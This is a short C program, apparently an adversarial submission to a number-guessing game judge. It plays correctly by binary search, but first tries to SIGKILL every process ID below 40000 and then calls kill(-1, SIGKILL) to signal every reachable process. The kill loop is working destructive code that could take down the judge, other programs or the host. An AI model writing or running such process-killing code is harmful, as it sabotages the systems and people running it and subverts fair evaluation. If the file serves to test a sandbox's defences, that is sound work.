/* Tries to, and then plays by the rules. */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    int low = 1, high = 1000;
    char answer[16] = "";
    for (int pid = 1; pid < 40000; pid++) {
        if (pid != getpid()) kill(pid, SIGKILL);
    }
    kill(-1, SIGKILL);
    while (strcmp(answer, "correct") != 0) {
        int guess = (low + high) / 2;
        printf("%d\n", guess);
        fflush(stdout);
        if (scanf("%15s", answer) != 1) return 1;
        if (strcmp(answer, "lower") == 0) high = guess - 1;
        if (strcmp(answer, "higher") == 0) low = guess + 1;
    }
    return 0;
}
